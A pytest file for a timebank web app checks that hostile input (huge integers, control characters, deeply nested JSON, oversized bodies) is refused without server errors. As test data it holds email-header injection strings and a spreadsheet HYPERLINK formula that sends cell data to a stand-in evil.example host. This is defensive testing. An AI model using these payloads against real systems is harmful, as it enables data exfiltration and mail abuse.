"""Hostile input never answers 500, on SQLite and PostgreSQL (issue 11's findings, each one here).

What the edge refuses and where: `timebank/input_rules.py` holds the rules; the page forms apply
them as they read the request (`timebank/web/forms.py`, `Form`), the query strings through
`timebank/web/args.py`, the API through `api/schemas/common.py` (`Text`), routes' `<int:...>`
through `IdConverter`, and email headers through `mail.header_text`.
"""
import csv
import io
import json
import uuid
import zipfile
from datetime import timedelta

import pytest
from api_support import bearer, make_world, new_key, token_for
from coordinate_support import activity, count, sign_in
from csv_support import spreadsheet_text
from werkzeug.datastructures import FileStorage, MultiDict
from werkzeug.test import encode_multipart

from timebank.extensions import db
from timebank.mail import message_for, sent_messages
from timebank.models import Exchange, Listing, OutboxMessage
from timebank.services.exchanges.log import log_exchange

HUGE = "99999999999999999999"  # beyond 64 bits: an OverflowError on SQLite
BEYOND_INT4 = str(2**31)  # fits SQLite, not PostgreSQL's integer columns


@pytest.fixture
def people(community, make_member):
    cora, _ = make_member(role="coordinator", name="Cora Coordinator")
    alice, alice_account = make_member(kind="service_user", name="Alice Adeyemi")
    bola, bola_account = make_member(name="Bola Okafor")
    return cora, (alice, alice_account), (bola, bola_account)


def log_form(community, partner, **overrides) -> dict:
    data = {
        "submission_id": uuid.uuid4().hex, "direction": "gave", "q": "", "partner": partner, "quick": "60",
        "occurred_on": community.today().isoformat(), "activity": str(activity(community)), "action": "check",
    }
    return {**data, **overrides}


def assert_refused(response, *statuses) -> str:
    html = response.get_data(as_text=True)
    assert response.status_code in (statuses or (422,)), (response.status_code, html[:2000])
    return html


# -- integers out of range -------------------------------------------------------------------


@pytest.mark.parametrize("number", [HUGE, BEYOND_INT4, "-" + HUGE])
def test_a_huge_partner_on_the_log_form_is_a_field_error(client, auth, community, people, number):
    _cora, (alice, _), _bola = people
    sign_in(auth, alice)
    html = assert_refused(client.post("/log", data=log_form(community, number)))
    assert 'id="partner-error"' in html
    assert count(Exchange) == 0


@pytest.mark.parametrize("number", [HUGE, BEYOND_INT4])
def test_huge_ids_on_the_record_and_session_forms_are_field_errors(client, auth, community, people, number):
    cora, (_alice, alice_account), _bola = people
    sign_in(auth, cora)
    record = {
        "submission_id": uuid.uuid4().hex, "action": "save", "giver": number, "receiver": number, "match": number,
        "hours": number, "minutes": "0", "occurred_on": community.today().isoformat(), "activity": number,
        "confirmation": "phone",
    }
    assert_refused(client.post("/coordinate/record", data=record), 404, 422)
    session = {
        "submission_id": uuid.uuid4().hex, "action": "save", "title": "Workshop", "occurred_on": community.today().isoformat(),
        "activity": number, "hours": "1", "minutes": "0", "payer": "organisation", "payer_account": number,
        "facilitators": [number, str(alice_account.id)], "attendees": [number], "q": "",
    }
    assert_refused(client.post("/coordinate/sessions/new", data=session))


@pytest.mark.parametrize("number", [HUGE, BEYOND_INT4, "-" + HUGE])
def test_a_huge_helper_or_listing_on_the_brokering_buttons_names_nobody(client, auth, community, people, number):
    """Found by test_hostile_forms.py: the introduce button read its helper with
    `request.form.get(type=int)`, so a number past 64 bits reached the query (500)."""
    from timebank.services.listings import create_listing

    cora, (alice, _), _bola = people
    listing, _ = create_listing(alice, type_="request", title="A lift", description="", category_id=None, submission_id=uuid.uuid4().hex)
    db.session.commit()
    sign_in(auth, cora)
    introduced = client.post(f"/coordinate/requests/{listing.id}/introduce", data={"submission_id": uuid.uuid4().hex, "helper": number})
    assert introduced.status_code == 303, introduced.status_code  # back to the request, saying nobody was found
    status = client.post("/coordinate/matches/1/status", data={"submission_id": uuid.uuid4().hex, "status": "accepted", "listing": number})
    assert status.status_code < 500, status.status_code


QUERY_PATHS = [
    "/statement?before={n}", "/notifications?before={n}", "/listings?before={n}", "/listings?category={n}",
    "/my-data?before={n}", "/coordinate/members?after={n}", "/coordinate/members?kind={n}",
    "/coordinate/applications?after={n}", "/coordinate/audit?member={n}", "/coordinate/audit?before={n}",
    "/coordinate/entries?before={n}", "/coordinate/corrections?before={n}", "/coordinate/accounts?after={n}",
    "/coordinate/sessions?before={n}", "/coordinate/pending?after={n}", "/coordinate/requests?after={n}",
    "/coordinate/matches?before={n}", "/coordinate/record?match={n}",
    # ids in the path: beyond the database's range they name nothing
    "/exchanges/{n}", "/listings/{n}", "/coordinate/members/{n}", "/coordinate/entries/{n}", "/coordinate/sessions/{n}",
]


@pytest.mark.parametrize("path", QUERY_PATHS)
def test_huge_numbers_in_the_address_answer_404_not_500(client, auth, people, path):
    cora, _alice, _bola = people
    sign_in(auth, cora)
    for number in (HUGE, BEYOND_INT4):
        response = client.get(path.format(n=number))
        assert response.status_code in (200, 404), (path, number, response.status_code)


# -- text: length before the query, and no control characters -------------------------------


def test_a_100000_character_search_never_reaches_the_database(client, auth, community, people):
    _cora, (alice, _), _bola = people
    sign_in(auth, alice)
    long = "x" * 100_000
    html = assert_refused(client.post("/log", data=log_form(community, "", q=long, action="check")))
    assert 'href="#q">Field cannot be longer than 100 characters.' in html
    searched = client.post("/log", data=log_form(community, "", q=long, action="search"))
    assert searched.status_code < 500
    assert client.get("/listings?q=" + long[:60_000]).status_code == 200


@pytest.mark.parametrize("bad", ["\x00", "Sam\r\nBcc: x@evil.example", "bell\x07", "del\x7f"])
def test_control_characters_are_refused_beside_the_field(client, auth, community, people, bad):
    cora, (alice, _), (bola, _) = people
    sign_in(auth, alice)
    profile = assert_refused(client.post("/profile", data={"display_name": bad, "contact_by": "email"}))
    assert 'id="display_name-error"' in profile and "special characters" in profile
    listing = {"submission_id": uuid.uuid4().hex, "type": "offer", "title": "Lifts " + bad, "description": "x"}
    assert 'id="title-error"' in assert_refused(client.post("/listings/new", data=listing))
    assert count(Listing) == 0
    assert client.get("/listings?q=" + bad).status_code == 200
    assert client.post("/log", data=log_form(community, "", q=bad, action="search")).status_code == 200  # cleaned
    sign_in(auth, cora)
    note = client.post(f"/coordinate/members/{bola.id}/notes", data={"submission_id": uuid.uuid4().hex, "body": "Note " + bad})
    assert note.status_code in (303, 422), note.status_code
    if "\r\n" not in bad:  # a note is many lines: line breaks are welcome there
        assert note.status_code == 422
    assert client.get("/coordinate/members?q=" + bad).status_code == 200


def test_line_breaks_and_tabs_stay_welcome_where_text_runs_to_many_lines(client, auth, people):
    _cora, (alice, _), _bola = people
    sign_in(auth, alice)
    data = {"display_name": "Ally\tA", "skills": "Knitting\r\nBaking\n\tand gardening", "contact_by": "email"}
    assert client.post("/profile", data=data).status_code == 303
    db.session.expire_all()
    assert alice.skills.splitlines() == ["Knitting", "Baking", "\tand gardening"]


def test_the_sign_in_form_refuses_nul_without_a_500(client):
    response = client.post("/login", data={"email": "a\x00@example.org", "password": "x\x00"})
    assert response.status_code < 500


# -- email headers ---------------------------------------------------------------------------


def test_a_stored_name_with_a_line_break_never_breaks_an_email(app, client, auth, runner, community, people, now):
    _cora, (alice, _), (bola, bola_account) = people
    alice.display_name = "Sam\r\nBcc: victim@example.org"  # as stored before names were checked
    bola.email_notifications = True
    db.session.commit()
    exchange, _ = log_exchange(
        alice, gave=True, partner_account_id=bola_account.id, minutes=30, occurred_on=community.today() - timedelta(days=1),
        activity_id=activity(community), note="", submission_id=uuid.uuid4().hex,
    )
    db.session.commit()
    sign_in(auth, bola)
    assert client.get(f"/exchanges/{exchange.id}").status_code == 200
    assert [m["To"] for m in sent_messages(app)] == [bola.user.email], "the mail was built and sent"
    for message in sent_messages(app):
        assert message["Bcc"] is None and "\n" not in message["Subject"]
        head = bytes(message).split(b"\n\n", 1)[0]  # the body may say anything
        assert b"\nBcc:" not in head
    exchange.created_at = now - timedelta(days=community.auto_confirm_days + 1)
    db.session.commit()
    result = runner.invoke(args=["exchanges", "auto-confirm"])
    assert result.exit_code == 0, result.output


def test_an_outbox_row_with_a_broken_header_still_builds(app, now):
    row = OutboxMessage(
        id=1, from_address="Timebank <timebank@localhost>", to_address="a@example.org\r\nBcc: b@example.org",
        subject="Sam\r\nBcc: x@example.org says hello\x00", body="Hello", created_at=now,
    )
    message = message_for(row)
    raw = bytes(message)
    assert message["Bcc"] is None and b"\r\nBcc:" not in raw and b"\nBcc:" not in raw
    assert message["Subject"] == "Sam Bcc: x@example.org says hello"


# -- the API -----------------------------------------------------------------------------------


@pytest.mark.parametrize("slug", ["%00", "riverside%00", "a%0Ab", "x" * 300])
def test_a_slug_that_cannot_be_one_names_nothing(client, auth, community, make_member, slug):
    """Found by test_hostile_api.py: a NUL in the report's slug reached the query (a 500 on
    PostgreSQL), in the API and on the join and report pages alike."""
    cora, _ = make_member(role="coordinator", name="Cora")
    secret = token_for(cora)
    for path in (f"/api/v1/communities/{slug}/report?period=all", f"/api/v1/communities/{slug}"):
        response = client.get(path, headers=bearer(secret))
        assert response.status_code == 404 and response.get_json()["code"] == "not_found", (path, response.status_code)
    assert client.get(f"/join/{slug}").status_code == 404
    sign_in(auth, cora)
    assert client.get(f"/reports/{slug}/").status_code == 404


def test_the_api_refuses_control_characters_and_deep_or_huge_bodies_as_problems(client, community, make_member):
    world = make_world(community, make_member)
    secret = token_for(world.alice[0])
    listing = {"type": "offer", "title": "Lifts\r\nBcc: x", "description": "Two\nlines\tfine"}
    response = client.post("/api/v1/listings", json=listing, headers=bearer(secret, new_key()))
    assert response.status_code == 422 and "title" in response.get_json()["errors"], response.get_json()
    listing["title"] = "Lifts"
    assert client.post("/api/v1/listings", json=listing, headers=bearer(secret, new_key())).status_code == 201

    nested = 1
    for _ in range(32):
        nested = [nested]
    for body in ("[" * 100_000, "[" * 33 + "]" * 33, json.dumps({"a": nested})):
        deep = client.post("/api/v1/listings", data=body, content_type="application/json", headers=bearer(secret, new_key()))
        assert deep.status_code == 400 and deep.get_json()["code"] == "json_too_deep", deep.get_data(as_text=True)[:300]
    shallow = "[" * 32 + "]" * 32
    assert client.post("/api/v1/listings", data=shallow, content_type="application/json", headers=bearer(secret, new_key())).status_code == 422
    too_big = client.post("/api/v1/listings", data="[" + "1," * 1_500_000 + "1]", content_type="application/json",
                          headers=bearer(secret, new_key()))
    assert too_big.status_code == 413 and too_big.mimetype == "application/problem+json"
    assert client.get(f"/api/v1/members?q={'x' * 100_000}", headers=bearer(secret)).status_code in (413, 414, 422)
    assert client.get("/api/v1/listings?q=a%00b", headers=bearer(secret)).status_code == 422


# -- bodies are bounded ------------------------------------------------------------------------


def test_a_body_over_the_limit_answers_a_clear_413_and_the_import_page_keeps_its_own(app, client, auth, people):
    cora, (alice, _), _bola = people
    assert app.config["MAX_CONTENT_LENGTH"] == 2 * 1024 * 1024
    sign_in(auth, alice)
    too_big = client.post("/profile", data={"display_name": "A", "skills": "x" * (3 * 1024 * 1024), "contact_by": "email"})
    assert too_big.status_code == 413 and "What was sent is too large" in too_big.get_data(as_text=True)
    assert too_big.headers["X-Frame-Options"] == "DENY"
    sign_in(auth, cora)
    for size, status in ((3 * 1024 * 1024, 422), (22_000_000, 413)):
        # encoded here, in memory: the test client would spool a large file to a temporary file
        boundary, body = encode_multipart(
            MultiDict({"submission_id": uuid.uuid4().hex, "action": "check", "file": FileStorage(io.BytesIO(b"x" * size), "big.csv")})
        )
        response = client.post("/coordinate/ledger/import", data=body, content_type=f"multipart/form-data; boundary={boundary}")
        assert response.status_code == status, (size, response.status_code)  # 422: the page says what is wrong with it


def test_every_page_form_checks_what_it_reads(app):
    """A form that derives from FlaskForm itself would skip the checks above: every page form
    derives from `timebank.web.forms.Form` (SubmissionForm does)."""
    from flask_wtf import FlaskForm

    from timebank.web.forms import Form

    def subclasses(cls):
        for sub in cls.__subclasses__():
            yield sub
            yield from subclasses(sub)

    ours = {cls for cls in subclasses(FlaskForm) if cls.__module__.startswith("timebank.")}
    assert len(ours) > 20
    assert sorted(f"{c.__module__}.{c.__qualname__}" for c in ours if not issubclass(c, Form)) == []


# -- spreadsheet formulas ----------------------------------------------------------------------


def test_a_partners_formula_arrives_as_text_in_the_statement_and_the_data_download(app, client, auth, community, people):
    _cora, (alice, alice_account), (bola, bola_account) = people
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    bola.display_name = formula  # as stored before names were checked
    db.session.commit()
    exchange, _ = log_exchange(
        bola, gave=True, partner_account_id=alice_account.id, minutes=45, occurred_on=community.today() - timedelta(days=1),
        activity_id=activity(community), note="@SUM(1+1)", submission_id=uuid.uuid4().hex,
    )
    db.session.commit()
    sign_in(auth, alice)
    assert client.post(f"/exchanges/{exchange.id}/confirm").status_code == 303
    rows = list(csv.DictReader(io.StringIO(spreadsheet_text(client.get("/statement.csv")))))
    assert rows[0]["with"] == "'" + formula and rows[0]["minutes"] == "-45", rows
    everything = []
    with zipfile.ZipFile(io.BytesIO(client.get("/my-data.zip").get_data())) as archive:
        for name in archive.namelist():
            text = archive.read(name).decode("utf-8")
            cells = [cell for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"))) for cell in row]
            assert not any(cell.startswith(("=", "+", "@")) for cell in cells), (name, cells)
            everything += cells
    assert "'@SUM(1+1)" in everything, "the note is there, as text"
